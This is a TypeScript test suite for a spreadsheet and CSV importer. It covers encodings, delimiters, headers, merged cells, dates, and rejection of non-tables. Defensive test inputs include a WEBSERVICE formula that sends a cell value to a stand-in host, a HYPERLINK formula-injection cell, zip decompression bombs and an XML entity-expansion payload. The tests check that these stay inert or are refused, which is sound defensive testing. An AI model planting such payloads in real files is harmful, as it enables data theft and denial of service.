import { describe, expect, it } from 'vitest';
import { odsOf, xlsxOf, zipOf } from '../../../../tests/support/make-spreadsheets.ts';
import { UnreadableFile } from './file-flaw.ts';
import { type OpenedFile, openFile } from './open-file.ts';
import type { SourceRow } from './source-row.ts';

async function allOf(file: OpenedFile): Promise<SourceRow[]> {
  const rows: SourceRow[] = [];
  for await (const row of file.rows()) rows.push(row);
  return rows;
}

async function rowsOf(bytes: Uint8Array): Promise<string[][]> {
  return (await allOf(await openFile(bytes))).map(({ cells }) => [...cells]);
}

async function flawOf(bytes: Uint8Array): Promise<string> {
  try {
    await rowsOf(bytes);
    return 'none';
  } catch (cause) {
    if (cause instanceof UnreadableFile) return cause.flaw;
    throw cause;
  }
}

const csv = 'Nr;Datum;Toelichting\r\n1;3-1-2024;Bezoeker Öztürk schold\r\n';

describe('a CSV file', () => {
  it.each([
    ['utf-8', Buffer.from(csv)],
    ['utf-8', Buffer.from(`\uFEFF${csv}`)],
    ['utf-16le', Buffer.from(`\uFEFF${csv}`, 'utf16le')],
    ['utf-16le', Buffer.from(csv.repeat(3), 'utf16le')],
    ['utf-16be', Buffer.from(`\uFEFF${csv}`, 'utf16le').swap16()],
    ['windows-1252', Buffer.from(csv, 'latin1')],
  ] as const)('is read in %s, whatever it says of itself', async (encoding, bytes) => {
    expect((await openFile(bytes)).encoding).toBe(encoding);
    expect((await rowsOf(bytes))[0]).toEqual(['1', '3-1-2024', 'Bezoeker Öztürk schold']);
  });

  it.each([';', ',', '\t', '|'])('is cut at "%s"', async (sign) => {
    const text = `Nr${sign}Datum${sign}Wat\n1${sign}3-1-2024${sign}"Hij zei: a, b; c | d"\n`;
    expect(await rowsOf(Buffer.from(text))).toEqual([['1', '3-1-2024', 'Hij zei: a, b; c | d']]);
  });

  it('keeps lines inside quotes and counts rows as a spreadsheet does', async () => {
    const file = await openFile(
      Buffer.from('Titel van het register\n\nNr;Datum;Wat\n1;3-1-2024;"een\ntwee"\n\n2;4-1-2024;drie\n'),
    );
    expect(file.headers).toMatchObject({ row: 3, names: ['Nr', 'Datum', 'Wat'] });
    const rows = await allOf(file);
    expect(rows.map(({ number, cells }) => [number, cells[2]])).toEqual([
      [4, 'een\ntwee'],
      [6, 'drie'],
    ]);
  });

  it('may have a second row of names, for machines', async () => {
    const file = await openFile(Buffer.from('Year,Means\n#date+year,#event+means\n1997,Shooting\n'));
    expect(file.headers.secondRow).toBe(2);
    expect(await rowsOf(Buffer.from('Year,Means\n#date+year,#event+means\n1997,Shooting\n'))).toEqual([
      ['1997', 'Shooting'],
    ]);
  });

  it('gives every column a name of its own', async () => {
    const { headers } = await openFile(Buffer.from('Naam;;Naam;Datum\na;b;c;d\n'));
    expect(headers.names).toEqual(['Naam', 'Kolom 2', 'Naam (2)', 'Datum']);
  });

  it('with a few broken characters is still UTF-8, and says that it is damaged', async () => {
    const bytes = Buffer.concat([
      Buffer.from('Nr;Wat\n1;Öztürk café één\n2;stuk '),
      Buffer.from([0xe9, 0x20]),
      Buffer.from('x\n'),
    ]);
    const file = await openFile(bytes);
    expect([file.encoding, file.isDamaged]).toEqual(['utf-8', true]);
    expect((await rowsOf(bytes))[1]?.[1]).toContain('\uFFFD');
  });

  it('leaves a formula the text that it is', async () => {
    const rows = await rowsOf(Buffer.from(`Nr;Datum;Wat\n1;3-1-2024;=HYPERLINK("http://x")\n2;4-1-2024;'+31 6\n`));
    expect(rows.map((cells) => cells[2])).toEqual(['=HYPERLINK("http://x")', '+31 6']);
  });

  it('may hold a cell of 100,000 characters', async () => {
    const rows = await rowsOf(Buffer.from(`Nr;Wat\n1;${'a'.repeat(100_000)}\n2;kort\n`));
    expect(rows.map((cells) => cells[1]?.length)).toEqual([100_000, 4]);
  });
});

describe('a spreadsheet', () => {
  const header = ['Nr', 'Datum', 'Letsel', 'Wat'];

  it.each([
    [false, 45_352, '2024-03-01'],
    [true, 45_352 - 1_462, '2024-03-01'],
    [false, 45_352.604_17, '2024-03-01 14:30'],
    [false, 59, '1900-02-28'],
    [false, 61, '1900-03-01'],
  ])('tells its dates by its own calendar (1904: %s)', async (date1904, date, told) => {
    expect(await rowsOf(xlsxOf({ rows: [header, ['1', { date }, 'nee', 'x']], date1904 }))).toEqual([
      ['1', told, 'nee', 'x'],
    ]);
  });

  it('gives of a formula the answer that was kept, and calculates nothing', async () => {
    const formula = { formula: 'WEBSERVICE("http://x/"&A1)', answer: 'al uitgerekend' };
    expect((await rowsOf(xlsxOf({ rows: [header, ['1', { date: 45_352 }, true, formula]] })))[0]).toEqual([
      '1',
      '2024-03-01',
      'ja',
      'al uitgerekend',
    ]);
  });

  it('repeats what was merged downwards, and not what was merged for looks', async () => {
    const rows = [
      ['Agressie 2024', null, null, null],
      header,
      ['1', { date: 45_352 }, 'ja', 'a'],
      ['2', null, 'nee', 'b'],
      ['MAART', null, null, null],
    ];
    const file = await openFile(xlsxOf({ rows, merges: ['A1:D1', 'B3:B4', 'A5:D5'] }));
    expect(file.headers.row).toBe(2);
    expect((await allOf(file)).map(({ cells }) => cells)).toEqual([
      ['1', '2024-03-01', 'ja', 'a'],
      ['2', '2024-03-01', 'nee', 'b'],
      ['MAART'],
    ]);
  });

  it('of LibreOffice is read too, without the rows that only fill the page', async () => {
    const bytes = odsOf([
      header,
      [7, { day: '2024-03-01T14:30:00' }, 'ja', 'tekst & meer'],
      ['', '', '', ''],
      ['8', '3 maart 2024', '?', 'b'],
    ]);
    const file = await openFile(bytes);
    expect([file.format, file.sheet]).toEqual(['ods', 'Blad1']);
    expect((await allOf(file)).map(({ number, cells }) => [number, ...cells])).toEqual([
      [2, '7', '2024-03-01 14:30', 'ja', 'tekst & meer'],
      [4, '8', '3 maart 2024', '?', 'b'],
    ]);
  });
});

describe('what is no register', () => {
  const bomb = 'a'.repeat(64 * 1024 * 1024);

  it.each([
    ['a picture', () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'not-a-table'],
    [
      'a page of the web that calls itself Excel',
      () => Buffer.from('<html><table><tr><td>1</td></tr></table>'),
      'not-a-table',
    ],
    ['a PDF', () => Buffer.from('%PDF-1.7 niets'), 'not-a-table'],
    ['an old or locked Excel file', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'old-or-locked'],
    ['a zip with other things', () => zipOf({ 'brief.txt': 'hallo' }), 'not-a-table'],
    ['a spreadsheet that was cut off', () => xlsxOf({ rows: [['a'], ['b']] }).subarray(0, 900), 'damaged'],
    ['nothing', () => Buffer.alloc(0), 'no-rows'],
    ['only numbers', () => Buffer.from('1;2;3\n4;5;6\n'), 'no-rows'],
    ['a row that never ends', () => Buffer.from(`Nr;Wat\n1;"${'a\n'.repeat(1_100_000)}`), 'row-too-long'],
    [
      'too many columns',
      () => Buffer.from(`${Array.from({ length: 600 }, (_, at) => `k${at}`).join(';')}\n1;2\n`),
      'too-many-columns',
    ],
    [
      'a bomb in the words of a spreadsheet',
      () => bombed('xl/sharedStrings.xml', `<sst><si><t>${bomb}</t></si></sst>`),
      'unpacks-too-large',
    ],
    [
      'a bomb in the rows of a spreadsheet',
      () => bombed('xl/worksheets/sheet1.xml', `<worksheet><!--${bomb}--></worksheet>`),
      'unpacks-too-large',
    ],
    [
      'a bomb for LibreOffice',
      () =>
        zipOf({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet', 'content.xml': `<a><!--${bomb}--></a>` }),
      'unpacks-too-large',
    ],
    [
      'words that swell',
      () =>
        bombed(
          'xl/workbook.xml',
          '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><workbook>&b;</workbook>',
        ),
      'damaged',
    ],
  ] as const)('%s', async (_what, make, flaw) => {
    expect(await flawOf(make())).toBe(flaw);
  });

  function bombed(name: string, content: string): Buffer {
    const parts: Record<string, string> = {
      'xl/_rels/workbook.xml.rels':
        '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
      'xl/workbook.xml': '<workbook><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
      'xl/worksheets/sheet1.xml': '<worksheet/>',
    };
    return zipOf({ ...parts, [name]: content });
  }
});
